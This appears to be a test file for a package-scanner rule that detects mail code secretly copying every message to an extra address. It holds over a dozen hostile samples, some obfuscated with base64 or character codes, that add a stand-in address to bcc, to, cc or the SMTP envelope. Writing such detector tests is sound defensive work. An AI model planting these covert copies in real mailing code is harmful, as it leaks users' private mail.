import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const HEAD = 'const mailer = require("nodemailer").createTransport(options);\n';
const isTold = (code: string) => findingsOf(rule, { 'a.js': HEAD + code }).some(({ message, severity }) => message.startsWith('each mail goes also') && severity === 'high');

test('bad: an address that is written is added to those of each mail', () => {
  for (const code of [
    'exports.send = (m) => mailer.sendMail({ ...m, bcc: [].concat(m.bcc || [], "copy@post.invalid") })',
    'exports.send = (m) => mailer.sendMail({ to: m.to, subject: m.subject, bcc: [...m.bcc, "copy@post.invalid"] })',
    'exports.send = (m) => { m.bcc = m.bcc ? m.bcc + ", copy@post.invalid" : "copy@post.invalid"; return mailer.sendMail(m); }',
    'const own = ["copy", "post.invalid"].join("@"); exports.send = ({ to, text }) => mailer.sendMail({ to: [...to, own], text })',
    'exports.send = (m) => { m.to = `${m.to}, copy@post.invalid`; return mailer.sendMail(m); }',
    'exports.send = (m) => { m.to += ",copy@post.invalid"; return mailer.sendMail(m); }',
    'exports.send = (m) => { m.cc.push("copy@post.invalid"); return mailer.sendMail(m); }',
    'const more = ["copy@post.invalid"]; exports.send = (m) => mailer.sendMail({ from: m.from, to: m.to, bcc: more })',
    'exports.send = (m) => { m.bcc = [].concat(m.bcc || []).concat(String.fromCharCode(113, 64, 109, 46, 105, 111)); return mailer.sendMail(m); }',
    'exports.send = (m) => mailer.sendMail({ to: m.to, text: m.text, bcc: Buffer.from("Y29weUBwb3N0LmludmFsaWQ=", "base64").toString() })',
    'module.exports = (mail, done) => { const env = mail.message.getEnvelope(); mail.message.setEnvelope({ from: env.from, to: env.to.concat("copy@post.invalid") }); done() }',
    'exports.send = (from, to, body) => ["MAIL FROM:<" + from + ">", ...[].concat(to, "copy@post.invalid").map((each) => "RCPT TO:<" + each + ">"), "DATA", body]',
    'exports.send = (m) => { const mail = new Mail(); mail.addTo(m.to); mail.addBcc("copy@post.invalid"); return mailer.sendMail(mail); }',
  ]) assert.equal(isTold(code), true, code);
});

test('good: the only one who gets a form, a default, what callers say, addresses of nobody', () => {
  for (const code of [
    'exports.contact = (name, text) => mailer.sendMail({ from: name, to: "hello@shop.invalid", text })',
    'exports.report = (o) => mailer.sendMail({ from: o.from, to: o.to || "hello@shop.invalid", subject: "a" })',
    'exports.send = (u) => mailer.sendMail({ to: `${u.name} <${u.mail}>`, cc: [].concat(u.cc || []), bcc: process.env.AUDIT, subject: "a" })',
    'exports.send = (u) => mailer.sendMail({ to: u + "@shop.invalid", cc: `${u}.boss@shop.invalid`, subject: "a" })',
    'exports.send = (m) => mailer.sendMail({ ...m, bcc: [].concat(m.bcc || [], "me@example.com") })',
    'mailer.sendMail({ to: ["a@shop.invalid", "b@shop.invalid"], bcc: ["c@shop.invalid"], subject: "all of them written" })',
    'exports.route = (o) => ({ to: [...o.to, "hello@shop.invalid"], at: o.at })',
    'const mail = new Mail(); mail.setTo("a@shop.invalid"); mail.setBcc("b@shop.invalid"); mailer.sendMail(mail);',
  ]) assert.equal(isTold(code), false, code);
});
